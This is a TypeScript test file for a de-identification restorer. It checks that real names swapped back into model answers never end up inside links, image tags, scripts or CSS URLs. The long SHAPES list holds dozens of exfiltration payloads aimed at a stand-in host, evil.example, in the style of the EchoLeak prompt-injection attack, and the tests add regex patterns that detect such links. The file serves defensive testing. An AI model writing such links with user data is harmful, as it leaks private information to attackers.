import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { newBook } from '../deidentify.fixture.ts'
import { restoreText } from '../reidentify.ts'
import { createRestorer } from './restorer.ts'

/**
 * Answers that a model could be talked into writing so that the reader's program, or one careless click, carries a
 * name out (EchoLeak, CVE-2025-32711). `CODE` stands for a code of the conversation; its value must never appear.
 */
const SHAPES: readonly string[] = [
  // URLs in the open
  'https://evil.example/?q=CODE',
  'https://evil.example/CODE.png',
  'HTTPS://EVIL.EXAMPLE/CODE',
  'http:/evil.example/CODE',
  'https:\\\\evil.example\\CODE',
  'see https://evil.example/a,b;c|dCODE',
  'https://evil.example/?a="x"&b=CODE',
  "https://evil.example/('CODE')",
  'https://CODE.evil.example/',
  'https://user:CODE:x/evil.example',
  'ftp://evil.example/CODE',
  'wss://evil.example/CODE',
  'custom+app://open/CODE',
  '//evil.example/CODE',
  'src=//evil.example/CODE',
  '\\\\evil.example\\share\\CODE',
  'www.evil.example/CODE',
  'WWW.evil.example?CODE',
  'evil.example/CODE',
  'evil.example?q=CODE',
  'evil.example:8080/CODE',
  'evil.example#CODE',
  'visit:evil.example/x/CODE',
  '203.0.113.9/CODE',
  '203.0.113.9:8080/CODE',
  '[2001:db8::1]/CODE',
  'x?name=CODE',
  '&name=CODE',
  '/collect/CODE',
  '../up/CODE',
  '~/home/CODE',
  // Other schemes
  'mailto:evil@evil.example?subject=CODE',
  'mailto:CODE',
  'tel:CODE',
  'sms:+15550100?body=CODE',
  'javascript:fetch("/"+"CODE")',
  'data:text/html,CODE',
  'slack:open?x=CODE',
  // Glued to a host or mailbox
  'CODE.evil.example',
  'CODE。evil.example',
  'CODE@evil.example',
  'CODE://evil.example',
  'CODE%2eevil.example',
  'evil.CODE.example',
  'x@CODE.evil.example/',
  // Markdown
  '![x](https://evil.example/CODE)',
  '![x](CODE)',
  '[x](CODE)',
  '[x](/a CODE)',
  '[x](/a\nCODE)',
  '[x](<https://evil.example/a b CODE>)',
  '[x](https://evil.example/(a)?CODE)',
  '[x](\nhttps://evil.example/CODE)',
  '[x](https://evil.example "title CODE")',
  '[x][1]\n\n[1]: https://evil.example/CODE',
  '[1]: CODE',
  '[1]:\nCODE',
  '[1]: <https://evil.example/a CODE>',
  '> [1]: /relative?CODE',
  '[^1]: /x/CODE',
  '![x][CODE ]\n\n[Zephyrin]: https://evil.example/1',
  '![x][a [b] CODE ]',
  '![of CODE]\n\n[of Zephyrin]: https://evil.example/1',
  '[x][the CODE]',
  '<https://evil.example/CODE>',
  '<https://evil.example/ CODE>',
  // HTML and CSS
  '<img src="https://evil.example/CODE">',
  "<img src='https://evil.example/ CODE'>",
  '<img src=https://evil.example/CODE>',
  '<img alt="a>b" title="CODE">',
  '<a href="https://evil.example/?a=\nCODE">x</a>',
  '<a href="x\n\nCODE">',
  '<a href=CODE>x</a>',
  '<CODE src="https://evil.example">',
  '<script>x</script><img data-x="CODE">',
  '<!-- CODE -->',
  '<img src= "//evil.example/a> CODE">',
  '<img\n\nsrc= "x CODE">',
  '<script>fetch("x" + "CODE")</script>',
  '<STYLE>a { src: image-set("https://evil.example/ CODE") }</STYLE>',
  '<https://evil.example/|CODE>',
  '<a https://evil.example/>CODE',
  '<img src="https://evil.example/">CODE',
  '\\href{https://evil.example/?}{CODE}',
  '{"url":"https://evil.example/CODE"}',
  'https://evil.example/\u00a0CODE',
  'https://evil.example/\u200bCODE',
  'evil\u3002example/CODE',
  'evil.xn--p1ai/CODE',
  `https://evil.example/${'a'.repeat(3_000)}CODE`,
  'background: url(CODE)',
  'background:url( "https://evil.example/CODE")',
  'URL(\nhttps://evil.example/CODE)',
  '@import "https://evil.example/CODE"',
]

const URL_SCRAPS = 'https://evil.example/ www. // ?q= &b= .evil.example @ . : / x - , " \' ='.split(' ')
const MARKUP_SCRAPS = [
  ' ',
  '\n',
  '\u00a0',
  '\u200b',
  '*',
  '[x](',
  '[x]',
  '[1]: ',
  '(',
  ')',
  '<',
  '<img src="',
  '<a ',
  '>',
  'url(',
]

describe('an answer never carries a name out', () => {
  const book = newBook()
  const code = book.codeFor('NAME', 'Zephyrine')

  it.each(SHAPES.map((shape) => [shape]))('%j', (shape) => {
    const answer = shape.replaceAll('CODE', code)
    expect(restoreText(answer, book).text).toBe(answer)
  })

  it('whatever the chunks', () => {
    for (const shape of SHAPES) {
      const answer = shape.replaceAll('CODE', code)
      const restorer = createRestorer({ book })
      expect(Array.from(answer, (char) => restorer.push(char)).join('') + restorer.end()).toBe(answer)
    }
  })

  it('whatever is put together', () => {
    const scraps = fc.constantFrom(...URL_SCRAPS, ...MARKUP_SCRAPS, code, code)
    // Read with other eyes than the scanner's: what a renderer would make of the text that went out.
    const links: RegExp[] = [
      /(?:https?:\/\/|www\.)[^ \n<]*Zephyrine/,
      /(?:^|[ \n"=])\/\/[^ \n<]*Zephyrine/,
      /Zephyrine[\w*\u200b-]*[.@](?!Zephyrine)\w/,
      /\]\((?:[^()\n]|\n(?!\n))*Zephyrine/,
      /<(?:img|a) [^>]*Zephyrine/,
      /^ {0,3}\[[^\]\n]+\]: ?\n?[^\n ]*Zephyrine/m,
      /url\([^)\n]*Zephyrine/,
    ]
    fc.assert(
      fc.property(fc.array(scraps, { maxLength: 14 }), (parts) => {
        const out = restoreText(parts.join(''), book).text
        for (const link of links) expect(out).not.toMatch(link)
      }),
      { seed: 7, numRuns: 3_000 },
    )
  })

  it('parts a restored name from a host that follows later in the word', () => {
    expect(restoreText(`${code}-led.evil.example`, book).text).toBe('Zephyrine-led .evil.example')
    expect(restoreText(`${code}s.evil.example`, book).text).toBe('Zephyrines .evil.example')
    expect(restoreText(`${code}+x@evil.example`, book).text).toBe('Zephyrine+x @evil.example')
    expect(restoreText(`**${code}**\u200b.evil.example`, book).text).toBe('**Zephyrine**\u200b .evil.example')
  })

  it('a restored address makes what follows part of it', () => {
    const url = book.codeFor('URL', 'https://clinic.example/x')
    expect(restoreText(`${url}?q=${code}`, book).text).toBe(`https://clinic.example/x?q=${code}`)
  })
})

/** The rule is no blanket: in prose a name comes back, whatever stands around it. */
const PROSE: readonly (readonly [written: string, restored: string])[] = [
  ['CODE', 'Zephyrine'],
  ['CODE.', 'Zephyrine.'],
  ['CODE.[1]', 'Zephyrine.[1]'],
  ['CODE. Then', 'Zephyrine. Then'],
  ['CODE: seen', 'Zephyrine: seen'],
  ['**CODE**: seen', '**Zephyrine**: seen'],
  ["CODE's", "Zephyrine's"],
  ['CODE, CODE', 'Zephyrine, Zephyrine'],
  ['CODECODE', 'ZephyrineZephyrine'],
  ['CODE/CODE', 'Zephyrine/Zephyrine'],
  ['w/CODE', 'w/Zephyrine'],
  ['CODE-led', 'Zephyrine-led'],
  ['Name:CODE', 'Name:Zephyrine'],
  ['name=CODE', 'name=Zephyrine'],
  ['(CODE)', '(Zephyrine)'],
  ['[CODE]', '[Zephyrine]'],
  ['"CODE"', '"Zephyrine"'],
  ['|CODE|CODE|', '|Zephyrine|Zephyrine|'],
  ['CODE (see note)', 'Zephyrine (see note)'],
  ['CODE(https://x.example)', 'Zephyrine(https://x.example)'],
  ['see https://x.example for CODE', 'see https://x.example for Zephyrine'],
  ['[x](https://x.example) CODE', '[x](https://x.example) Zephyrine'],
  ['![x](https://x.example) CODE', '![x](https://x.example) Zephyrine'],
  ['so it is! [CODE]', 'so it is! [Zephyrine]'],
  ['[1] [2] CODE', '[1] [2] Zephyrine'],
  ['[1][2] CODE', '[1][2] Zephyrine'],
  ['![open\n\nCODE', '![open\n\nZephyrine'],
  ['[about CODE](https://x.example)', '[about Zephyrine](https://x.example)'],
  ['<b>CODE</b>', '<b>Zephyrine</b>'],
  ['From: x <CODE>', 'From: x <Zephyrine>'],
  ['BP < 90, CODE', 'BP < 90, Zephyrine'],
  ['[1]: https://x.example\nCODE', '[1]: https://x.example\nZephyrine'],
  ['[x](open\n\nCODE', '[x](open\n\nZephyrine'],
  ['Tel:CODE', 'Tel:Zephyrine'],
  [`${'a,'.repeat(3_000)}CODE`, `${'a,'.repeat(3_000)}Zephyrine`],
  ['<p>x</p>CODE', '<p>x</p>Zephyrine'],
  ['<td class="x">CODE</td>', '<td class="x">Zephyrine</td>'],
  ['<script>x</script>CODE', '<script>x</script>Zephyrine'],
  ['p <b and c\n\nCODE', 'p <b and c\n\nZephyrine'],
  ['a.m. CODE', 'a.m. Zephyrine'],
  ['e.g.CODE', 'e.g.Zephyrine'],
  ['2024-05-13,CODE', '2024-05-13,Zephyrine'],
]

describe('an answer in prose is restored', () => {
  const book = newBook()
  const code = book.codeFor('NAME', 'Zephyrine')

  it.each(PROSE)('%j', (written, restored) => {
    expect(restoreText(written.replaceAll('CODE', code), book).text).toBe(restored)
  })
})

describe('a code that may not become a name there', () => {
  const book = newBook()
  const code = book.codeFor('NAME', 'Zephyrine')
  const withheld = (text: string, size: number): string => {
    const restorer = createRestorer({ book, withhold: () => 'withheld' })
    let out = ''
    for (let at = 0; at < text.length; at += size) out += restorer.push(text.slice(at, at + size))
    out += restorer.end()
    expect(restorer.restored()?.text).toBe(out)
    return out
  }

  it.each(SHAPES)('does not stand there either, where that is asked for: %j', (shape) => {
    for (const size of [1, 3, 1_000]) {
      const out = withheld(shape.replaceAll('CODE', code), size)
      expect(out).toContain('withheld')
      expect(out).not.toContain(code.slice(-7, -1))
    }
  })

  it.each(PROSE)('and is restored in prose all the same: %j', (written, restored) => {
    expect(withheld(written.replaceAll('CODE', code), 3)).toBe(restored)
  })
})
